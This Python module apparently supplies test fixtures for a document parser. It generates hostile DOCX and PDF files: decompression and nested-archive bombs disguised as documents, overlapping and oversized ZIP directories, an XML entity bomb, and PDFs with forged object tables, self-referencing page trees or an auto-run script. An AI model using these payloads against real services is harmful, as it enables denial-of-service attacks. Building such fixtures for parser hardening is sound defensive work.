"""Files made to harm whoever opens them."""

import io
import struct
import zipfile

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def a_zip(parts):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as package:
        for name, content in parts.items():
            package.writestr(name, content)
    return out.getvalue()


def a_docx(body="<w:p><w:r><w:t>Nous séchons les dattes au soleil.</w:t></w:r></w:p>", **parts):
    return a_zip(
        {"word/document.xml": f"<w:document {W}><w:body>{body}</w:body></w:document>"} | parts
    )


def a_docx_bomb(megabytes=300):
    """A document that unpacks to a thousand times its size."""
    return a_docx("<w:p/>" * (megabytes * 175_000))


def a_bomb_in_bombs():
    """As 42.zip: archives in archives, named as a document."""
    inner = a_zip({f"{n}.txt": bytes(2_000_000) for n in range(8)})
    for _ in range(3):
        inner = a_zip({f"lib {n}.zip": inner for n in range(8)})
    return a_docx(**{f"word/media/{n}.zip": inner for n in range(8)})


def a_zip_that_overlaps():
    """Entries that all name the same bytes, so that each unpacks them once more."""
    data = bytearray(a_docx("<w:p/>" * 100_000))
    start = data.index(b"PK\x01\x02")
    end = data.index(b"PK\x05\x06")
    entry = bytes(data[start:end])
    many = 2_000
    closing = struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, many, many, len(entry) * many, start, 0)
    return bytes(data[:start]) + entry * many + closing


def a_zip_of_many_parts(count=60_000):
    """A directory that takes far more memory than the file."""
    local = b"PK\x03\x04" + bytes(26)
    entry = b"PK\x01\x02" + struct.pack("<4B4HL2L5H2L", 20, 0, 20, 0, 0, 0, 0, 0, 0, 0, 0, 5, 0,
                                         0, 0, 0, 0, 0) + b"a.txt"  # fmt: skip
    closing = struct.pack(
        "<4s4H2LH", b"PK\5\6", 0, 0, 65_535, 65_535, len(entry) * count, len(local), 0
    )
    return local + entry * count + closing


def an_entity_bomb():
    lines = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    return a_zip(
        {
            "word/document.xml": f'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY a0 "ha">{lines}]>'
            f"<w:document {W}><w:body><w:p><w:r><w:t>&a9;</w:t></w:r></w:p></w:body></w:document>"
        }
    )


def a_pdf(page="BT /F1 12 Tf 72 720 Td (Nous sechons les dattes au soleil.) Tj ET", extra=""):
    """A PDF of one page; `extra` goes into its catalogue."""
    objects = [
        f"<</Type/Catalog/Pages 2 0 R{extra}>>",
        "<</Type/Pages/Kids[4 0 R]/Count 1>>",
        "<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
        "<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Resources 6 0 R/Contents 5 0 R>>",
        f"<</Length {len(page)}>>stream\n{page}\nendstream",
        "<</Font<</F1 3 0 R>>>>",
    ]
    return _with_table(objects)


def a_pdf_of_many_objects(count=1_000_000):
    """A PDF of a million objects, in less than ten megabytes: a table without the objects."""
    body = a_pdf()
    first = body.index(b"xref\n")
    lines = b"0000000009 00000 n \n" * (count // 3)
    return (
        body[:first]
        + b"xref\n0 %d\n" % (count // 3)
        + lines
        + b"trailer<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (count // 3, first)
    )


def a_pdf_whose_pages_go_round():
    """Pages that hold themselves."""
    return _with_table(
        ["<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Kids[2 0 R 2 0 R]/Count 9>>"]
    )


def a_pdf_with_a_script():
    return a_pdf(extra="/OpenAction<</S/JavaScript/JS(app.alert\\('SCRIPT'\\))>>")


def _with_table(objects):
    out, places = b"%PDF-1.4\n", []
    for number, body in enumerate(objects, start=1):
        places.append(len(out))
        out += f"{number} 0 obj\n{body}\nendobj\n".encode("latin-1")
    table = "".join(f"{place:010d} 00000 n \n" for place in places)
    return out + (
        f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n{table}"
        f"trailer<</Size {len(objects) + 1}/Root 1 0 R>>\nstartxref\n{len(out)}\n%%EOF\n"
    ).encode("latin-1")
